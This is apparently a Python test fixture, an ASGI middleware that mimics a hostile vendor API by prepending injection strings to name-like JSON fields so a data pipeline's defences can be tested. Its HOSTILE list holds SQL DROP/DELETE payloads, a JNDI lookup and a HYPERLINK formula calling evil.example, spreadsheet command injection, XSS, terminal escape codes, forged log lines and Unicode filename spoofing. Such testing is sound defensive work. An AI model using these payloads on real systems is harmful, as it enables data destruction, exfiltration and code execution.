"""A vendor whose answers hold, in every name that a person may choose, what could do harm.

Text that SQL, HTML, markup, a spreadsheet, a terminal or a log would take for more than text. The
figures stay as they are: what the pipeline makes of them can be compared with an honest vendor's.
"""

from __future__ import annotations

import hashlib
from collections import defaultdict
from typing import Any

import msgspec
from starlette.types import ASGIApp, Message, Receive, Scope, Send

HOSTILE = (
    "'); DROP TABLE fact_ai_costs; --",
    "'; DELETE FROM raw_ai_events WHERE 1=1; --",
    "\\'; SELECT 1; --",
    '"; DROP SCHEMA ai_usage CASCADE; --',
    "@start {{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n `x`",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "a;=1+1;b,=1+1",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "<!channel> @everyone",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07\x9b31m",
    "one\n2026-03-18 00:00:00 +0000 - dagster - ERROR - forged",
    "\r\nerror: forged\r",
    "\u202egpj.exe\u2028\u200b",
    "[red]markup[/red]",
)
CHOSEN = frozenset({"name", "model", "description", "displayName", "api_key_name", "formatted"})
"""The fields of answers that take any text."""


class HostileAnswers:
    """ASGI middleware: puts a hostile text before the chosen fields of JSON answers.

    The same value gets the same text everywhere, so that what belongs together stays together.
    `sent` collects the values of each field as they went out.
    """

    def __init__(self, app: ASGIApp, sent: defaultdict[str, set[str]]) -> None:
        self._app = app
        self._sent = sent

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Rewrite the answer of one request."""
        if scope["type"] != "http" or scope["path"].startswith("/sheets"):
            # A sheet with such cells is refused as a whole, as a file is.
            await self._app(scope, receive, send)
            return
        parts: list[bytes] = []
        start: Message = {}

        async def collect(message: Message) -> None:
            if message["type"] == "http.response.start":
                start.update(message)
            else:
                parts.append(message.get("body", b""))

        await self._app(scope, receive, collect)
        body = self._rewritten(b"".join(parts), dict(start["headers"]).get(b"content-type", b""))
        headers = [(n, v) for n, v in start["headers"] if n != b"content-length"]
        headers.append((b"content-length", str(len(body)).encode()))
        await send({**start, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    def _rewritten(self, body: bytes, kind: bytes) -> bytes:
        """The body with its names poisoned; what is no JSON, nor lines of it, as it is."""
        if kind.startswith(b"application/x-ndjson"):
            return b"".join(self._rewritten(line, b"json") + b"\n" for line in body.splitlines())
        if b"json" not in kind or not body:
            return body
        return msgspec.json.encode(self._poisoned("", msgspec.json.decode(body)))

    def _poisoned(self, name: str, value: Any) -> Any:
        if isinstance(value, dict):
            return {key: self._poisoned(key, inner) for key, inner in value.items()}
        if isinstance(value, list):
            return [self._poisoned(name, inner) for inner in value]
        if isinstance(value, str) and name in CHOSEN:
            value = hostile(value)
            self._sent[name].add(value)
        return value


def hostile(value: str) -> str:
    """The value behind one of the hostile texts, always the same."""
    number = int.from_bytes(hashlib.sha256(value.encode()).digest()[:4], "big")
    return HOSTILE[number % len(HOSTILE)] + value
